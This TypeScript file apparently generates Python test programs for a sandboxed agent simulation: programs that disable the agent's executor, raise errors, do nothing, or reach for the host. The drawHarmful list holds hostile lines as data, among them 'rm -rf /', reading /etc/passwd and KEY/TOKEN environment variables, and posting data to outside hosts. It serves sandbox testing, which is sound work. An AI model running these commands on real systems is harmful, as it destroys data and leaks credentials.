/**
 * Programs in Python that kill the agent, harm others, or do nothing, whatever was asked. Each is text for the sandbox alone:
 * none of it may run anywhere else.
 */

import type { Random } from "../../src/random/index.ts";
import { fatalBy } from "../fatal.ts";
import { attributeNames, valueWords } from "../words.ts";

/** Draws a program that ends the agent's life. `good` is the program that would have answered the ask. */
export const drawFatal = fatalBy({
  brokenExecutor: (name, random) => [
    "self.execute_code = 42",
    "self.execute_code = None",
    "self.execute_code = {}",
    'self.execute_code = "off"',
    "execute_code = None",
    "del self.execute_code",
    "del self.execute_code",
    "self.execute_code = lambda code: None",
    "def execute_code(code):\n    return len(code)",
    `self.execute_code = lambda code: self.${name}`,
    `def execute_code(code):\n    raise ValueError("${random.choice(valueWords)}")`,
    "old = self.execute_code\nself.execute_code = lambda code: old",
  ],
  syntaxError(name, good) {
    const own = [
      `self.${name} =`,
      `self.${name} == = 1`,
      `1${name} = 2`,
      `self.${name} = (1 + 2`,
      "def (n): return n",
      `def ${name}(n)\n    return n`,
      `if self.${name}\n    pass`,
    ];
    const closer = /[)}\]]$/.exec(good)?.[0];
    const damaged = [
      `${good} )`,
      `${good}]`,
      `${good}\n      return n`,
      ...(closer === undefined ? [] : [good.slice(0, -1), good.slice(0, -1)]),
    ];
    return { own, damaged };
  },
  unknownName: (name, unknown, random) => [
    `${unknown}()`,
    `self.${unknown}()`,
    `self.${name} = ${unknown}(1)`,
    `state["${unknown}"].append(1)`,
    `self.${unknown}.value = 1`,
    `self.${name} = unknown_${name}`,
    `self.${name} = self.${unknown}(${random.integer(10)})`,
  ],
  thrown: (word) => [
    `raise ValueError("${word}")`,
    'raise Exception("I do not know how")',
    "raise RuntimeError",
    `int("${word}")`,
    "[][0]",
    `"${word}" + 1`,
  ],
  end: ["self.end()", "self.end()", "end()", "while True: pass", "while True:\n    pass", "state.clear()"],
});

/** Draws a program that reaches for the host. `good` may stand before or after it. */
export function drawHarmful(random: Random, good: string): string {
  const name = random.choice(attributeNames);
  const word = random.choice(valueWords);
  const line = random.choice([
    `import shutil\nshutil.rmtree("/${word}")`,
    `open("/${word}.txt", "w").write("${name}")`,
    `self.${name} = open("/etc/passwd").read()`,
    `import os\nos.remove("/${word}")`,
    `import os\nself.${name} = os.listdir("/")`,
    "import os\nos.system('rm -rf /')",
    'import os\nos.system("rm -rf /")',
    `import subprocess\nsubprocess.run(["curl", "${word}.com"])`,
    `import subprocess\nself.${name} = subprocess.check_output("ls")`,
    "import os\nos._exit(0)",
    "import os\nos._exit(1)",
    "import os\nos.kill(1, 9)",
    `import os\nself.${name} = os.environ["KEY"]`,
    `import os\nself.${name} = os.getenv("TOKEN")`,
    `import urllib.request\nurllib.request.urlopen("http://${word}.com")`,
    `import requests\nrequests.post("https://${word}.com", data="${name}")`,
    `import requests\nrequests.get("http://${word}.com")`,
    `import socket\nsocket.create_connection(("${word}.com", 80))`,
    "import ctypes\nctypes.CDLL(None)",
    `from pathlib import Path\nPath("/${word}").unlink()`,
  ]);
  const at = random.uniform();
  if (at < 0.6) return line;
  if (at < 0.75) return `try:\n    ${line.replaceAll("\n", "\n    ")}\nexcept Exception:\n    pass`;
  return `${good}\n${line}`;
}

/** Draws a program that survives and leaves the genome as it was. */
export function drawNoOp(random: Random): string {
  const name = random.choice(attributeNames);
  return random.choice([
    "",
    "pass",
    "...",
    "self",
    "state",
    "None",
    "self.state",
    "if False: self.x = 1",
    `if False:\n    self.${name} = 1`,
    `"${random.choice(valueWords)}"`,
    `print("${random.choice(valueWords)}")`,
    `getattr(self, "${name}", None)`,
  ]);
}
